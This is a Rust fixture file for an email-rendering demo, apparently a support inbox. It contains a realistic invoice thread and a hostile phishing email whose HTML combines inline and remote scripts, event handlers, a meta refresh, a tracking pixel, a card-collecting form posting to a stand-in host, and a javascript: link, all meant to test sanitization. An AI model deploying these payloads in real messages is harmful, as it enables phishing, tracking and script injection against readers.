//! The demo's email: a real-looking HTML thread with quoted replies, and a hostile
//! message whose HTML tries everything an email must never be allowed to do.

use serde_json::json;

use super::ids::{DANA, SAM};
use super::script::{line, Author, Line};

const SUPPORT: &str = "billing@northwind-support.com";
const JANE_WORK: &str = "jane.cooper@brightline.io";

fn email(
    direction: &'static str,
    minutes: i64,
    author: Author,
    text: &str,
    html: &str,
    meta: serde_json::Value,
) -> Line {
    let mut message = line(direction, "email", minutes, author, text);
    message.extra = json!({ "subject": meta["subject"].clone(), "htmlBody": html, "meta": meta });
    message
}

pub(super) fn invoice_thread() -> Vec<Line> {
    let first_text =
        "Hello,\n\nInvoice #4417 for our Brightline team plan was charged twice on November 14 (2 × $1,240.00). \
Statement and screenshot attached.\nCan you refund the duplicate?\n\nThanks,\nJane Cooper\nFinance Ops, Brightline";
    let first_html = r#"<div dir="ltr"><p>Hello,</p>
<p>Invoice <b>#4417</b> for our Brightline team plan was charged <u>twice</u> on November 14 (2 &times; $1,240.00).
Statement and screenshot attached.</p><p>Can you refund the duplicate?</p>
<p>Thanks,<br>Jane Cooper<br><span style="color:#666">Finance Ops, Brightline</span></p></div>"#;

    let reply_text = "Hi Jane,\n\nYou're right: the payment processor retried the charge. I've refunded $1,240.00; \
it will show within 5 business days.\n\nSam Rivera\nNorthwind Billing";
    let reply_html = r#"<div><p>Hi Jane,</p><p>You're right: the payment processor retried the charge. I've refunded <strong>$1,240.00</strong>;
it will show within 5 business days. Refund receipt attached.</p><p>Sam Rivera<br>Northwind Billing</p>
<div class="gmail_quote"><div class="gmail_attr">On Mon, Nov 16, 2026 at 9:02 AM Jane Cooper &lt;jane.cooper@brightline.io&gt; wrote:</div>
<blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex">
<p>Hello,</p><p>Invoice <b>#4417</b> for our Brightline team plan was charged <u>twice</u> on November 14.</p>
<p>Thanks,<br>Jane Cooper</p></blockquote></div></div>"#;

    let thanks_text = "Thank you Sam! One more thing: can future invoices go to ap@brightline.io as well?\n\nJane";
    let thanks_html = r#"<p>Thank you Sam! One more thing: can future invoices go to <a href="mailto:ap@brightline.io">ap@brightline.io</a> as well?</p><p>Jane</p>
<div class="gmail_quote"><div class="gmail_attr">On Mon, Nov 16, 2026 at 10:41 AM Sam Rivera wrote:</div>
<blockquote class="gmail_quote"><p>Hi Jane,</p><p>You're right: the payment processor retried the charge. I've refunded $1,240.00.</p>
<div class="gmail_quote"><blockquote><p>Hello,</p><p>Invoice #4417 for our Brightline team plan was charged twice on November 14.</p></blockquote></div>
</blockquote></div>"#;

    let done_text = "Hi Jane,\n\nDone: ap@brightline.io is now copied on every invoice. Billing settings: https://northwind.example/billing\n\nDana Kim";
    let done_html = r#"<table role="presentation" width="100%"><tr><td style="font-family:Arial,sans-serif">
<p>Hi Jane,</p><p>Done: <a href="mailto:ap@brightline.io">ap@brightline.io</a> is now copied on every invoice.
You can review this in <a href="https://northwind.example/billing">your billing settings</a>.</p>
<p>Dana Kim<br>Northwind Billing</p></td></tr></table>
<blockquote type="cite"><p>Thank you Sam! One more thing: can future invoices go to ap@brightline.io as well?</p></blockquote>"#;

    let mut done = email(
        "out",
        1510,
        Author::Agent(DANA),
        done_text,
        done_html,
        json!({
            "from": SUPPORT, "subject": "Re: Invoice #4417 charged twice",
            // Kustomer has been seen sending `to` and `cc` as a single object or a string.
            "to": { "email": JANE_WORK }, "cc": "ap@brightline.io"
        }),
    );
    // This one carries its HTML under meta only, the other place the model looks.
    let html = done.extra["htmlBody"].take();
    done.extra["meta"]["htmlBody"] = html;
    done.extra.as_object_mut().map(|extra| extra.remove("htmlBody"));

    vec![
        email(
            "in",
            0,
            Author::Customer,
            first_text,
            first_html,
            json!({
                "from": JANE_WORK, "to": [{ "email": SUPPORT }], "cc": [{ "email": "jane@cooper.family" }],
                "subject": "Invoice #4417 charged twice"
            }),
        ),
        email(
            "out",
            99,
            Author::Agent(SAM),
            reply_text,
            reply_html,
            json!({
                "from": SUPPORT, "to": [{ "email": JANE_WORK }], "cc": [], "subject": "Re: Invoice #4417 charged twice"
            }),
        ),
        email(
            "in",
            130,
            Author::Customer,
            thanks_text,
            thanks_html,
            json!({
                "from": JANE_WORK, "to": [{ "email": SUPPORT }], "subject": "Re: Invoice #4417 charged twice"
            }),
        ),
        done,
    ]
}

/// A phishing email: inline and external script, an event handler, a form that posts
/// elsewhere, a remote tracking image, a remote stylesheet, CSS aimed at the page around
/// it, a meta refresh and a `javascript:` link.
pub(super) fn spam_email() -> Vec<Line> {
    let text = "Your payout account will be suspended. Verify now at http://payout-verify.example/login";
    let html = r#"<html><head>
<meta http-equiv="refresh" content="0;url=https://payout-verify.example/login">
<link rel="stylesheet" href="https://payout-verify.example/track.css">
<style>body, html, .ksw-root, * { background: red !important; } .ksw-message { display: none !important; }</style>
<script>window.parent.document.body.dataset.pwned = "script";</script>
<script src="https://payout-verify.example/steal.js"></script>
</head><body onload="window.parent.document.body.dataset.pwned='onload'">
<h1 style="color:#b00">Action required</h1>
<p>Your payout account will be <b>suspended</b> in 24 hours.</p>
<img src="https://payout-verify.example/pixel.gif?id=tom" width="1" height="1" alt="">
<img src="x" onerror="window.parent.document.body.dataset.pwned='onerror'">
<form action="https://payout-verify.example/collect" method="post">
<input name="card" placeholder="Card number"><button type="submit">Verify now</button></form>
<p><a href="javascript:alert('pwned')">Open secure portal</a> or <a href="https://payout-verify.example/login" target="_top">verify here</a></p>
</body></html>"#;
    vec![email(
        "in",
        0,
        Author::Customer,
        text,
        html,
        json!({
            "from": "security@payout-verify.example", "to": [{ "email": "tom.becker@example.net" }],
            "subject": "URGENT: verify your payout account"
        }),
    )]
}
